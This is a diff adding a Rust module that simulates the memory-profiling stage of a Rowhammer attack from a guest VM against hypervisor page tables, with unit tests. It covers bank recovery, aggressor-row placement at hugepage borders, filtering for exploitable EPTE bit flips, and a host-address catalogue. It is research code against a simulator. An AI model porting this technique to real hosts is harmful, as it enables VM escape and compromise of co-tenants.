@@ -1,0 +1,566 @@
+//! Memory profiling (§4.1, evaluated in §5.1 / Table 1).
+//!
+//! The profiler runs inside the attacker VM and works purely on
+//! guest-visible information:
+//!
+//! * **Bank targeting.** With THP on both levels, the low 21 bits of a
+//!   guest-physical address survive into the host-physical address, and
+//!   the DRAM bank function (recovered offline with DRAMDig, §5.1) uses
+//!   only XOR parities whose in-hugepage contributions are computable
+//!   from those bits. Two offsets inside one 2 MiB hugepage therefore
+//!   land in the same bank iff their *relative* bank — the parity of
+//!   their XOR over mask bits below 21 — is zero.
+//! * **Aggressor placement.** Each 2 MiB hugepage spans eight 256 KiB
+//!   DRAM rows. Hammering the two rows at the *top* of a hugepage
+//!   (rows 0–1) single-sided-disturbs the last row of the physically
+//!   preceding hugepage; the two *bottom* rows (6–7) disturb the first
+//!   row of the following one. Those victims are in different hugepages,
+//!   which is what makes their vulnerable bits releasable (§4.1).
+//! * **Patterns.** Two passes with complementary stripe fills (0x55 /
+//!   0xAA) expose both flip directions.
+//! * **Exploitability.** A bit is exploitable if flipping it in an EPTE
+//!   changes PFN bits 21–⌈log₂ mem⌉ (bit positions within the aligned
+//!   64-bit word), and if its hugepage can be released while the
+//!   aggressors stay resident.
+
+use std::collections::HashMap;
+
+use hh_dram::FlipDirection;
+use hh_hv::{Host, HvError, Vm};
+use hh_sim::addr::{Gpa, HUGE_PAGE_SIZE};
+use hh_sim::clock::SimDuration;
+use hh_sim::{ByteSize, Hpa};
+
+/// Bits of a physical address preserved by 2 MiB mappings.
+const LOW21: u64 = (1 << 21) - 1;
+/// Bytes per DRAM row (bits 18–33 select the row on both machines).
+const ROW_SPAN: u64 = 1 << 18;
+
+/// Profiling parameters.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct ProfileParams {
+    /// Hammer rounds per aggressor pair (the paper uses 250 000).
+    pub hammer_rounds: u64,
+    /// Number of repeat hammers a bit must survive to count as *stable*.
+    pub stability_checks: u32,
+    /// Stop as soon as this many exploitable bits are found (§5.3.3:
+    /// "the attacker can stop when enough bits, 12 in our case, are
+    /// found"). `None` profiles everything.
+    pub stop_after_exploitable: Option<usize>,
+    /// Host memory size, bounding the highest exploitable PFN bit.
+    pub host_mem: ByteSize,
+}
+
+impl ProfileParams {
+    /// Paper settings: 250 k rounds, 3 stability checks, full profile,
+    /// 16 GiB host.
+    pub fn paper() -> Self {
+        Self {
+            hammer_rounds: 250_000,
+            stability_checks: 3,
+            stop_after_exploitable: None,
+            host_mem: ByteSize::gib(16),
+        }
+    }
+}
+
+/// Which border of the hugepage the aggressor pair sits on.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+enum Side {
+    /// Rows 0–1: victim is the previous physical hugepage's last row.
+    Top,
+    /// Rows 6–7: victim is the next physical hugepage's first row.
+    Bottom,
+}
+
+/// A vulnerable bit found by profiling, in guest coordinates.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub struct ProfiledBit {
+    /// Guest-physical byte address of the cell.
+    pub gpa: Gpa,
+    /// Bit index within the byte.
+    pub bit: u8,
+    /// Flip direction.
+    pub direction: FlipDirection,
+    /// The aggressor pair that triggers it.
+    pub aggressors: [Gpa; 2],
+    /// Whether it survived every stability re-check.
+    pub stable: bool,
+}
+
+impl ProfiledBit {
+    /// Bit position within the containing aligned 64-bit word.
+    pub fn bit_in_word(&self) -> u32 {
+        (self.gpa.raw() % 8) as u32 * 8 + u32::from(self.bit)
+    }
+
+    /// Base of the 2 MiB hugepage holding the vulnerable cell.
+    pub fn hugepage_base(&self) -> Gpa {
+        self.gpa.align_down(HUGE_PAGE_SIZE)
+    }
+
+    /// Base of the 2 MiB hugepage holding the aggressors.
+    pub fn aggressor_hugepage(&self) -> Gpa {
+        self.aggressors[0].align_down(HUGE_PAGE_SIZE)
+    }
+
+    /// Exploitability per §4.1: the flipped EPTE PFN bit must be in
+    /// 21–⌈log₂ host_mem⌉, and the victim hugepage must be releasable
+    /// while the aggressors stay (different hugepages, victim inside the
+    /// virtio-mem region).
+    pub fn is_exploitable(&self, host_mem: ByteSize, vm: &Vm) -> bool {
+        let hi = host_mem.log2_ceil();
+        let b = self.bit_in_word();
+        if !(21..=hi).contains(&b) {
+            return false;
+        }
+        if self.hugepage_base() == self.aggressor_hugepage() {
+            return false;
+        }
+        let region = vm.virtio_mem();
+        let base = region.region_base();
+        self.gpa >= base && self.gpa.offset_from(base) < region.region_size()
+    }
+}
+
+/// The outcome of a profiling campaign — the raw material of Table 1.
+#[derive(Debug, Clone)]
+pub struct ProfileReport {
+    /// Every vulnerable bit found (deduplicated).
+    pub bits: Vec<ProfiledBit>,
+    /// Simulated wall time the campaign took.
+    pub duration: SimDuration,
+    /// Number of hugepages hammered.
+    pub hugepages_profiled: u64,
+    /// Exploitable-bit count at the stop point (see
+    /// [`ProfileParams::stop_after_exploitable`]).
+    pub exploitable_found: usize,
+}
+
+impl ProfileReport {
+    /// Total vulnerable bits found.
+    pub fn total(&self) -> usize {
+        self.bits.len()
+    }
+
+    /// Count of 1→0 flips.
+    pub fn one_to_zero(&self) -> usize {
+        self.bits
+            .iter()
+            .filter(|b| b.direction == FlipDirection::OneToZero)
+            .count()
+    }
+
+    /// Count of 0→1 flips.
+    pub fn zero_to_one(&self) -> usize {
+        self.bits
+            .iter()
+            .filter(|b| b.direction == FlipDirection::ZeroToOne)
+            .count()
+    }
+
+    /// Count of stable bits.
+    pub fn stable(&self) -> usize {
+        self.bits.iter().filter(|b| b.stable).count()
+    }
+
+    /// The exploitable bits for this VM and host size.
+    pub fn exploitable<'a>(&'a self, host_mem: ByteSize, vm: &'a Vm) -> Vec<&'a ProfiledBit> {
+        self.bits
+            .iter()
+            .filter(|b| b.is_exploitable(host_mem, vm))
+            .collect()
+    }
+}
+
+/// A host-physical catalogue of profiled bits, built once via the debug
+/// hypercall (§5.3.2) so later attack attempts skip re-profiling.
+#[derive(Debug, Clone)]
+pub struct FlipCatalog {
+    /// Catalogued cells.
+    pub entries: Vec<CatalogEntry>,
+    /// Host memory size the exploitability filter used.
+    pub host_mem: ByteSize,
+}
+
+/// One catalogued vulnerable cell, keyed by host-physical location.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub struct CatalogEntry {
+    /// Host-physical byte address of the cell.
+    pub cell_hpa: Hpa,
+    /// Bit within the byte.
+    pub bit: u8,
+    /// Flip direction.
+    pub direction: FlipDirection,
+    /// Host-physical base of the hugepage holding the aggressors.
+    pub aggressor_hugepage_hpa: Hpa,
+    /// The aggressors' byte offsets inside that hugepage.
+    pub aggressor_offsets: [u64; 2],
+    /// Stability flag from profiling.
+    pub stable: bool,
+}
+
+/// Computes the relative bank of an in-hugepage offset: the XOR-parity
+/// vector of the offset over the mask bits preserved by 2 MiB mappings.
+fn rel_bank(masks: &[u64], offset: u64) -> u32 {
+    let mut bank = 0;
+    for (i, &m) in masks.iter().enumerate() {
+        bank |= ((offset & m & LOW21).count_ones() & 1) << i;
+    }
+    bank
+}
+
+/// Precomputes, per border side, one aggressor-offset pair for every
+/// reachable relative-bank class. The pairs are hugepage-relative, so one
+/// table serves every hugepage.
+fn aggressor_pairs(masks: &[u64], side: Side) -> Vec<(u64, u64)> {
+    let (row_a, row_b) = match side {
+        Side::Top => (0u64, 1u64),
+        Side::Bottom => (6, 7),
+    };
+    let mut seen: HashMap<u32, u64> = HashMap::new();
+    for o in (row_a * ROW_SPAN..(row_a + 1) * ROW_SPAN).step_by(64) {
+        seen.entry(rel_bank(masks, o)).or_insert(o);
+    }
+    let mut pairs = Vec::with_capacity(seen.len());
+    for (&bank, &o1) in &seen {
+        let o2 = (row_b * ROW_SPAN..(row_b + 1) * ROW_SPAN)
+            .step_by(64)
+            .find(|&o| rel_bank(masks, o) == bank);
+        if let Some(o2) = o2 {
+            pairs.push((o1, o2));
+        }
+    }
+    pairs.sort_unstable();
+    pairs
+}
+
+/// The memory profiler.
+#[derive(Debug, Clone)]
+pub struct Profiler {
+    params: ProfileParams,
+}
+
+impl Profiler {
+    /// Creates a profiler with the given parameters.
+    pub fn new(params: ProfileParams) -> Self {
+        Self { params }
+    }
+
+    /// Runs the profiling campaign over the VM's virtio-mem region.
+    ///
+    /// # Errors
+    ///
+    /// Propagates hypervisor errors from memory operations.
+    pub fn run(&self, host: &mut Host, vm: &mut Vm) -> Result<ProfileReport, HvError> {
+        let start = host.now();
+        let region_base = vm.virtio_mem().region_base();
+        let region_size = vm.virtio_mem().region_size();
+        // §5.1: the attacker first reverse engineers the DRAM address
+        // function with DRAMDig. Run the actual solver against the
+        // row-buffer timing side channel; only if the (synthetic)
+        // geometry defeats it do we fall back to the installed function.
+        // Any basis equivalent to the true function works: aggressor
+        // pairing needs only same-bank *equality*, which is invariant
+        // under output-bit recombination.
+        let masks = {
+            let probe = hh_dram::timing::TimingProbe::new(
+                host.dram().geometry().clone(),
+                hh_dram::timing::AccessTiming::ddr4_2666(),
+            );
+            match hh_dram::dramdig::recover(&probe) {
+                Ok(map) => map.bank_fn.masks().to_vec(),
+                Err(_) => host.dram().geometry().bank_fn().masks().to_vec(),
+            }
+        };
+        let pair_table: Vec<(Side, Vec<(u64, u64)>)> = vec![
+            (Side::Top, aggressor_pairs(&masks, Side::Top)),
+            (Side::Bottom, aggressor_pairs(&masks, Side::Bottom)),
+        ];
+
+        let mut found: HashMap<(u64, u8), ProfiledBit> = HashMap::new();
+        let mut exploitable_found = 0usize;
+        let mut hugepages_profiled = 0u64;
+        let mut done = false;
+
+        for pattern in [0x55u8, 0xaa] {
+            if done {
+                break;
+            }
+            vm.fill_gpa(host, region_base, region_size, pattern)?;
+            for chunk in (0..region_size).step_by(HUGE_PAGE_SIZE as usize) {
+                if done {
+                    break;
+                }
+                let hp_base = region_base.add(chunk);
+                hugepages_profiled += 1;
+                let cursor = vm.journal_cursor(host);
+                for (_side, pairs) in &pair_table {
+                    for &(o1, o2) in pairs {
+                        vm.hammer_gpa(
+                            host,
+                            &[hp_base.add(o1), hp_base.add(o2)],
+                            self.params.hammer_rounds,
+                        )?;
+                    }
+                }
+                let flips = vm.scan_for_flips(host, cursor, region_base, region_size);
+                for flip in flips {
+                    // §5.1: "a scan of all OTHER 2 MB regions" — flips
+                    // inside the hammered hugepage are collateral on the
+                    // aggressors' own rows and are never releasable.
+                    if flip.gpa.align_down(HUGE_PAGE_SIZE) == hp_base {
+                        continue;
+                    }
+                    let key = (flip.gpa.raw(), flip.bit);
+                    if found.contains_key(&key) {
+                        continue;
+                    }
+                    let bit = self.characterize(host, vm, hp_base, &pair_table, flip.gpa, flip.bit, flip.direction, pattern)?;
+                    let exploitable = bit.is_exploitable(self.params.host_mem, vm);
+                    found.insert(key, bit);
+                    if exploitable {
+                        exploitable_found += 1;
+                        if let Some(target) = self.params.stop_after_exploitable {
+                            if exploitable_found >= target {
+                                done = true;
+                                break;
+                            }
+                        }
+                    }
+                }
+            }
+        }
+
+        let mut bits: Vec<ProfiledBit> = found.into_values().collect();
+        bits.sort_unstable_by_key(|b| (b.gpa.raw(), b.bit));
+        Ok(ProfileReport {
+            bits,
+            duration: host.elapsed_since(start),
+            hugepages_profiled,
+            exploitable_found,
+        })
+    }
+
+    /// Identifies which aggressor pair triggers a found flip and measures
+    /// its stability by repeated re-arming and re-hammering.
+    #[allow(clippy::too_many_arguments)]
+    fn characterize(
+        &self,
+        host: &mut Host,
+        vm: &mut Vm,
+        hp_base: Gpa,
+        pair_table: &[(Side, Vec<(u64, u64)>)],
+        victim: Gpa,
+        bit: u8,
+        direction: FlipDirection,
+        pattern: u8,
+    ) -> Result<ProfiledBit, HvError> {
+        let rearm = |host: &mut Host, vm: &mut Vm| -> Result<(), HvError> {
+            vm.write_gpa(host, victim, &[pattern])
+        };
+        let flipped = |host: &Host, vm: &Vm| -> Result<bool, HvError> {
+            let byte = vm.read_gpa(host, victim, 1)?[0];
+            Ok((byte >> bit) & 1 == direction.target_bit())
+        };
+
+        // Find the responsible pair.
+        let mut responsible: Option<[Gpa; 2]> = None;
+        'search: for (_side, pairs) in pair_table {
+            for &(o1, o2) in pairs {
+                rearm(host, vm)?;
+                vm.hammer_gpa(host, &[hp_base.add(o1), hp_base.add(o2)], self.params.hammer_rounds)?;
+                if flipped(host, vm)? {
+                    responsible = Some([hp_base.add(o1), hp_base.add(o2)]);
+                    break 'search;
+                }
+            }
+        }
+        let Some(aggressors) = responsible else {
+            // Could not reproduce (intermittent cell): record as
+            // unstable with the first top pair as best effort.
+            let (o1, o2) = pair_table[0].1[0];
+            rearm(host, vm)?;
+            return Ok(ProfiledBit {
+                gpa: victim,
+                bit,
+                direction,
+                aggressors: [hp_base.add(o1), hp_base.add(o2)],
+                stable: false,
+            });
+        };
+
+        // Stability: must flip on every re-check.
+        let mut stable = true;
+        for _ in 0..self.params.stability_checks {
+            rearm(host, vm)?;
+            vm.hammer_gpa(host, &aggressors, self.params.hammer_rounds)?;
+            if !flipped(host, vm)? {
+                stable = false;
+                break;
+            }
+        }
+        rearm(host, vm)?;
+        Ok(ProfiledBit {
+            gpa: victim,
+            bit,
+            direction,
+            aggressors,
+            stable,
+        })
+    }
+
+    /// Converts a report into a host-physical catalogue via the debug
+    /// hypercall, for reuse across VM respawns (§5.3.2).
+    ///
+    /// # Errors
+    ///
+    /// Propagates hypercall failures for unmapped addresses.
+    pub fn to_catalog(
+        &self,
+        vm: &Vm,
+        report: &ProfileReport,
+    ) -> Result<FlipCatalog, HvError> {
+        let mut entries = Vec::new();
+        for bit in &report.bits {
+            if !bit.is_exploitable(self.params.host_mem, vm) {
+                continue;
+            }
+            let cell_hpa = vm.hypercall_gpa_to_hpa(bit.gpa)?;
+            let aggr_hp_gpa = bit.aggressor_hugepage();
+            let aggr_hp_hpa = vm.hypercall_gpa_to_hpa(aggr_hp_gpa)?;
+            entries.push(CatalogEntry {
+                cell_hpa,
+                bit: bit.bit,
+                direction: bit.direction,
+                aggressor_hugepage_hpa: aggr_hp_hpa,
+                aggressor_offsets: [
+                    bit.aggressors[0].offset_from(aggr_hp_gpa),
+                    bit.aggressors[1].offset_from(aggr_hp_gpa),
+                ],
+                stable: bit.stable,
+            });
+        }
+        Ok(FlipCatalog {
+            entries,
+            host_mem: self.params.host_mem,
+        })
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::machine::Scenario;
+    use hh_dram::geometry::BankFunction;
+
+    #[test]
+    fn rel_bank_is_linear_and_bounded() {
+        let masks = BankFunction::core_i3_10100().masks().to_vec();
+        for (a, b) in [(0u64, 64u64), (0x40000, 0x7ffc0), (0x1fffc0, 0x100)] {
+            assert_eq!(rel_bank(&masks, a) ^ rel_bank(&masks, b), rel_bank(&masks, a ^ b));
+        }
+        assert!(rel_bank(&masks, 0x155540) < 32);
+    }
+
+    #[test]
+    fn aggressor_pairs_cover_all_banks_same_bank_rows() {
+        for masks in [
+            BankFunction::core_i3_10100().masks().to_vec(),
+            BankFunction::xeon_e2124().masks().to_vec(),
+        ] {
+            for side in [Side::Top, Side::Bottom] {
+                let pairs = aggressor_pairs(&masks, side);
+                assert_eq!(pairs.len(), 32, "one pair per bank class");
+                for &(o1, o2) in &pairs {
+                    assert_eq!(rel_bank(&masks, o1), rel_bank(&masks, o2));
+                    // Consecutive rows.
+                    assert_eq!(o2 / ROW_SPAN, o1 / ROW_SPAN + 1);
+                    match side {
+                        Side::Top => assert_eq!(o1 / ROW_SPAN, 0),
+                        Side::Bottom => assert_eq!(o1 / ROW_SPAN, 6),
+                    }
+                }
+            }
+        }
+    }
+
+    #[test]
+    fn tiny_profile_finds_and_classifies_bits() {
+        let sc = Scenario::tiny_demo();
+        let mut host = sc.boot_host();
+        let mut vm = host.create_vm(sc.vm_config()).unwrap();
+        let report = Profiler::new(sc.profile_params()).run(&mut host, &mut vm).unwrap();
+        assert!(report.total() > 0, "dense DIMM must show flips");
+        assert_eq!(report.total(), report.one_to_zero() + report.zero_to_one());
+        assert!(report.stable() <= report.total());
+        assert!(report.duration.as_nanos() > 0);
+        // Flips the scan reports are observable in guest memory and the
+        // recorded aggressors reproduce stable ones.
+        let stable_bit = report.bits.iter().find(|b| b.stable);
+        if let Some(bit) = stable_bit {
+            assert_ne!(bit.aggressors[0], bit.aggressors[1]);
+        }
+    }
+
+    #[test]
+    fn stop_after_exploitable_stops_early() {
+        let sc = Scenario::tiny_demo();
+        let mut host = sc.boot_host();
+        let mut vm = host.create_vm(sc.vm_config()).unwrap();
+        let mut params = sc.profile_params();
+        params.stop_after_exploitable = Some(1);
+        let report = Profiler::new(params.clone()).run(&mut host, &mut vm).unwrap();
+        if report.exploitable_found >= 1 {
+            // Early-stopped runs profile fewer hugepages than the region
+            // holds across two passes.
+            let region_hps = vm.virtio_mem().region_size() / HUGE_PAGE_SIZE;
+            assert!(report.hugepages_profiled < region_hps * 2);
+        }
+    }
+
+    #[test]
+    fn catalog_round_trips_through_hypercall() {
+        let sc = Scenario::tiny_demo();
+        let mut host = sc.boot_host();
+        let mut vm = host.create_vm(sc.vm_config()).unwrap();
+        let profiler = Profiler::new(sc.profile_params());
+        let report = profiler.run(&mut host, &mut vm).unwrap();
+        let catalog = profiler.to_catalog(&vm, &report).unwrap();
+        assert_eq!(catalog.entries.len(), report.exploitable(sc.profile_params().host_mem, &vm).len());
+        for e in &catalog.entries {
+            assert!(e.aggressor_offsets[0] < HUGE_PAGE_SIZE);
+            assert!(e.aggressor_offsets[1] < HUGE_PAGE_SIZE);
+            assert!(e.aggressor_hugepage_hpa.is_aligned(HUGE_PAGE_SIZE));
+        }
+    }
+
+    #[test]
+    fn exploitable_filter_checks_bit_range_and_hugepages() {
+        let sc = Scenario::tiny_demo();
+        let mut host = sc.boot_host();
+        let vm = host.create_vm(sc.vm_config()).unwrap();
+        let base = vm.virtio_mem().region_base();
+        let mk = |gpa: Gpa, bit: u8, aggr: Gpa| ProfiledBit {
+            gpa,
+            bit,
+            direction: FlipDirection::OneToZero,
+            aggressors: [aggr, aggr.add(64)],
+            stable: true,
+        };
+        // Word-bit 24 (byte offset 3 in word, bit 0): exploitable when in
+        // the virtio-mem region with remote aggressors.
+        let good = mk(base.add(3), 0, base.add(HUGE_PAGE_SIZE));
+        assert_eq!(good.bit_in_word(), 24);
+        assert!(good.is_exploitable(ByteSize::mib(512), &vm));
+        // Same cell with aggressors in the same hugepage: not releasable.
+        let same_hp = mk(base.add(3), 0, base.add(0x40000));
+        assert!(!same_hp.is_exploitable(ByteSize::mib(512), &vm));
+        // Bit 7 of byte 0: word-bit 7, points inside the same page.
+        let low = mk(base.add(0), 7, base.add(HUGE_PAGE_SIZE));
+        assert!(!low.is_exploitable(ByteSize::mib(512), &vm));
+        // Boot RAM cell: not unpluggable.
+        let boot = mk(Gpa::new(3), 0, base.add(HUGE_PAGE_SIZE));
+        assert!(!boot.is_exploitable(ByteSize::mib(512), &vm));
+    }
+}
